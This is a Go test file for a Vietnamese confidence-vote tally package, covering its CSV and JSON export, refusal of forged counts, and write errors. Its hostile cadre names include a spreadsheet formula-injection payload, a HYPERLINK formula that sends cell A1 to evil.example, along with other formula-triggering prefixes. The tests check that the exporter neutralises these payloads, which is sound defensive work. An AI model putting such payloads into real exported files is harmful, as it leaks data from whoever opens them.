package tally_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"tinnhiem/tally"
)

// publishedResult reproduces a published figure set: 47 ballots collected,
// 19 high, 2 normal, 25 low, 1 invalid.
func publishedResult(t *testing.T, cadres []tally.Cadre) tally.Result {
	t.Helper()
	var ballots []string
	add := func(n int, line string) {
		for i := 0; i < n; i++ {
			ballots = append(ballots, strings.Repeat(line, len(cadres)))
		}
	}
	add(19, "H")
	add(2, "N")
	add(25, "L")
	add(1, "X")
	res, err := tally.Count(tally.Input{Rules: tally.QD96, Cadres: cadres, Members: 50, Issued: 48, Ballots: ballots})
	if err != nil {
		t.Fatalf("Count: %v", err)
	}
	return res
}

var hostileCadres = []tally.Cadre{
	{ID: "1", Name: `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, Position: "Bí thư"},
	{ID: "2", Name: "+84 Nguyễn Văn An", Position: "-Phó Bí thư"},
	{ID: "3", Name: "@SUM(1+1)", Position: "\tỦy viên"},
	{ID: "4", Name: "\rLê Hoàng Long", Position: "Chủ nhiệm, Ủy ban \"Kiểm tra\""},
	{ID: "5", Name: "Trần Thị Bích Ngọc", Position: "'Ủy viên"},
}

func TestWriteCSV(t *testing.T) {
	res := publishedResult(t, hostileCadres)
	var buf bytes.Buffer
	if err := tally.WriteCSV(&buf, res); err != nil {
		t.Fatalf("WriteCSV: %v", err)
	}
	out := buf.Bytes()
	if !bytes.HasPrefix(out, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("WriteCSV output starts %q, want the UTF-8 byte-order mark", out[:min(len(out), 8)])
	}
	if !bytes.Contains(out, []byte("\r\n")) {
		t.Error("WriteCSV output has no CRLF line ends")
	}
	rows, err := csv.NewReader(bytes.NewReader(out[3:])).ReadAll()
	if err != nil {
		t.Fatalf("parsing WriteCSV output back: %v", err)
	}
	wantHeader := []string{"STT", "Họ và tên", "Chức vụ", "Phiếu phát ra", "Phiếu thu về", "Phiếu hợp lệ",
		"Phiếu không hợp lệ", "Số tính tỷ lệ (tổng số phiếu thu về)", "Tín nhiệm cao", "% Tín nhiệm cao",
		"Tín nhiệm", "% Tín nhiệm", "Tín nhiệm thấp", "% Tín nhiệm thấp", "Kết luận"}
	if got := rows[0]; strings.Join(got, "|") != strings.Join(wantHeader, "|") {
		t.Errorf("header = %q, want %q", got, wantHeader)
	}
	if len(rows) != 1+len(hostileCadres) {
		t.Fatalf("got %d rows, want header + %d", len(rows), len(hostileCadres))
	}
	conclusion := tally.MoreThanHalfLow.Vietnamese(tally.QD96)
	wantFigures := []string{"48", "47", "46", "1", "47", "19", "40,43", "2", "4,26", "25", "53,19", conclusion}
	wantNames := [][2]string{
		{`'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, "Bí thư"},
		{"'+84 Nguyễn Văn An", "'-Phó Bí thư"},
		{"'@SUM(1+1)", "'\tỦy viên"},
		// encoding/csv with UseCRLF drops a lone CR inside a field; the
		// apostrophe added for it stays first.
		{"'Lê Hoàng Long", "Chủ nhiệm, Ủy ban \"Kiểm tra\""},
		{"Trần Thị Bích Ngọc", "'Ủy viên"},
	}
	for i, row := range rows[1:] {
		if len(row) != len(wantHeader) {
			t.Errorf("row %d has %d cells, want %d", i+1, len(row), len(wantHeader))
			continue
		}
		if row[0] != string(rune('1'+i)) {
			t.Errorf("row %d: STT = %q, want %d", i+1, row[0], i+1)
		}
		if row[1] != wantNames[i][0] || row[2] != wantNames[i][1] {
			t.Errorf("row %d: name, position = %q, %q; want %q, %q", i+1, row[1], row[2], wantNames[i][0], wantNames[i][1])
		}
		if got := strings.Join(row[3:], "|"); got != strings.Join(wantFigures, "|") {
			t.Errorf("row %d: figures = %q, want %q", i+1, row[3:], wantFigures)
		}
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d cell %d = %q starts a formula", i+1, j, cell)
			}
		}
	}
}

func TestWriteJSON(t *testing.T) {
	res := publishedResult(t, hostileCadres[:2])
	var buf bytes.Buffer
	if err := tally.WriteJSON(&buf, res); err != nil {
		t.Fatalf("WriteJSON: %v", err)
	}
	out := buf.String()

	// Programs: the output decodes back into the same Result.
	var back tally.Result
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
		t.Fatalf("decoding WriteJSON output: %v", err)
	}
	if !tally.Equal(back, res) {
		t.Errorf("WriteJSON output decodes to\n%+v\nwant\n%+v", back, res)
	}

	// People: the text fields say what the numbers mean.
	var doc struct {
		Format          string    `json:"format"`
		RulesTitle      string    `json:"rules_title"`
		DenominatorText string    `json:"denominator_text"`
		Levels          [3]string `json:"levels"`
		LevelsVi        [3]string `json:"levels_vi"`
		Cadres          []struct {
			PercentText   [3]string `json:"percent_text"`
			Condition     string    `json:"condition"`
			Article       string    `json:"article"`
			ConditionText string    `json:"condition_text"`
			ConditionEn   string    `json:"condition_text_en"`
		} `json:"cadres"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatalf("decoding WriteJSON output: %v", err)
	}
	if doc.Format != tally.JSONFormat || doc.RulesTitle != tally.QD96.Title() ||
		doc.DenominatorText != "tổng số phiếu thu về" ||
		doc.Levels != [3]string{"high", "normal", "low"} ||
		doc.LevelsVi != [3]string{"Tín nhiệm cao", "Tín nhiệm", "Tín nhiệm thấp"} {
		t.Errorf("header fields = %q %q %q %q %q", doc.Format, doc.RulesTitle, doc.DenominatorText, doc.Levels, doc.LevelsVi)
	}
	for i, c := range doc.Cadres {
		if c.PercentText != [3]string{"40.43", "4.26", "53.19"} {
			t.Errorf("cadre %d: percent_text = %q, want [40.43 4.26 53.19]", i, c.PercentText)
		}
		if c.Condition != "more_than_half_low" || c.Article != "Điều 11 Quy định 96-QĐ/TW" ||
			c.ConditionText != tally.MoreThanHalfLow.Vietnamese(tally.QD96) ||
			c.ConditionEn != tally.MoreThanHalfLow.English(tally.QD96) {
			t.Errorf("cadre %d: condition fields = %q %q %q %q", i, c.Condition, c.Article, c.ConditionText, c.ConditionEn)
		}
	}
	for _, want := range []string{"{\n  \"format\": \"tinnhiem-tally/v1\",\n", "&A1",
		"\"counts\": [19, 2, 25],\n", "\"percent_text\": [\"40.43\", \"4.26\", \"53.19\"],\n", "Nguyễn Văn An", "“tín nhiệm thấp”"} {
		if !strings.Contains(out, want) {
			t.Errorf("WriteJSON output lacks %q (indented, unescaped):\n%s", want, out)
		}
	}
}

func TestWriteRefusesInconsistentResult(t *testing.T) {
	res := publishedResult(t, hostileCadres[:1])
	res.Cadres[0].Counts[2]-- // a forged low count no longer adds up
	for name, write := range map[string]func(*bytes.Buffer, tally.Result) error{
		"WriteCSV":  func(b *bytes.Buffer, r tally.Result) error { return tally.WriteCSV(b, r) },
		"WriteJSON": func(b *bytes.Buffer, r tally.Result) error { return tally.WriteJSON(b, r) },
	} {
		var buf bytes.Buffer
		if err := write(&buf, res); err == nil || !strings.Contains(err.Error(), "failed to check result") {
			t.Errorf("%s of an inconsistent result = %v, want a check error", name, err)
		}
		if buf.Len() != 0 {
			t.Errorf("%s wrote %d bytes of an inconsistent result", name, buf.Len())
		}
	}
}

type failWriter struct{ after int }

func (w *failWriter) Write(p []byte) (int, error) {
	if w.after <= 0 {
		return 0, errors.New("disk full")
	}
	w.after--
	return len(p), nil
}

func TestWriteErrors(t *testing.T) {
	res := publishedResult(t, hostileCadres)
	for _, after := range []int{0, 1} {
		if err := tally.WriteCSV(&failWriter{after: after}, res); err == nil || !strings.Contains(err.Error(), "disk full") {
			t.Errorf("WriteCSV to a failing writer (after %d writes) = %v, want the write error", after, err)
		}
	}
	if err := tally.WriteJSON(&failWriter{}, res); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("WriteJSON to a failing writer = %v, want the write error", err)
	}
}
